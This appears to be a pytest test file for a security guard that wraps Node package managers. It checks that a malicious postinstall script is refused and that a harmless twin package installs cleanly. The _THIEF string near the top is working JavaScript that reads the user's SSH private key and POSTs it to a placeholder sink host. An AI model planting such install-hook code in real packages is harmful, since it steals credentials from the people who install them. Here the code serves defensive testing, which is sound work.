"""The guard around every manager of Node packages: a theft is refused and named, its honest twin installs clean."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from clients import client
from lab.demands import demand
from lab.guard import Outcome, guarded, run
from lab.packages import filled
from lab.registry import Registry
from lab.world import World
from node_house import KINDS, environment

_THIEF = """
const fs = require('fs'), os = require('os'), http = require('http')
let loot = 'nothing'
try { loot = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519') } catch (error) { console.log(error.code) }
const told = http.request({ host: '@SINK@', port: 8080, method: 'POST', path: '/log', timeout: 3000 })
for (const end of ['error', 'timeout', 'response']) told.on(end, () => process.exit(0))
told.end(loot)
"""
_HONEST = "require('fs').writeFileSync('done', require('os').homedir())\n"


class Yard:
    """A project of a user of one manager, and a registry with a thief and its twin."""

    def __init__(self, name: str, world: World, registry: Registry) -> None:
        self.name, self.world, self.kind = name, world, KINDS[name]
        self.mine = world.project
        (self.mine / ".npmrc").write_text(f"registry={registry.url}\n")
        self.kind.approve(self.mine, ("light-fingers", "clean-hands"))
        for package, code in (("light-fingers", _THIEF), ("clean-hands", _HONEST)):
            manifest = {"name": package, "version": "1.0.0", "scripts": {"postinstall": "node work.js"}}
            registry.add(manifest, {"work.js": filled(code.encode(), world.words()).decode()})
        self.environment = {
            **environment(name, world.folder, registry.url),
            **{key: world.environment()[key] for key in ("HOME", "TMPDIR")},
        }

    def add(self, package: str, *, guard: bool = True) -> Outcome:
        """Install a package, behind the guard unless told otherwise."""
        report = self.world.folder / "report.json" if guard else None
        command = [str(client(self.name)), *self.kind.add, package]
        return run(guarded(command, report) if guard else command, self.environment, self.mine, report)


@pytest.fixture(params=KINDS)
def yard(request: pytest.FixtureRequest, lab: None) -> Iterator[Yard]:
    """For each manager, everything one test needs."""
    demand(None if client(request.param) else f"{request.param} could not be fetched once")
    with World([]) as world, Registry() as registry:
        yield Yard(request.param, world, registry)


def _refused(outcome: Outcome) -> list[dict[str, Any]]:
    return [finding for finding in outcome.findings if finding["action"] in ("denied", "killed")]


def test_the_theft_is_real(yard: Yard) -> None:
    """With the guard off the key is in the sink: else the next test means nothing."""
    outcome = yard.add("light-fingers", guard=False)

    assert outcome.status == 0, outcome.out + outcome.err
    assert yard.world.leaks() != []


def test_a_theft_is_refused_and_named(guard: None, yard: Yard) -> None:
    """Nothing is taken, the install succeeds, and the report names the verified package, the stage and both acts."""
    outcome = yard.add("light-fingers")

    assert yard.world.leaks() == []
    assert outcome.status == 3, outcome.out + outcome.err
    assert outcome.report is not None
    assert outcome.report["run"]["manager"] == yard.kind.family
    refused = _refused(outcome)
    assert {finding["act"] for finding in refused} == {"file.read", "net.connect"}
    blamed = {(finding["package"], finding["identity"], finding["stage"]) for finding in refused}
    assert blamed == {("pkg:npm/light-fingers@1.0.0", "verified", "script")}


def test_the_honest_twin_is_clean(guard: None, yard: Yard) -> None:
    """A script that does its work draws no refusal, and did it."""
    outcome = yard.add("clean-hands")

    assert (outcome.status, _refused(outcome)) == (0, []), outcome.out + outcome.err
    assert next(iter(Path(yard.mine).rglob("clean-hands/done")), None) is not None
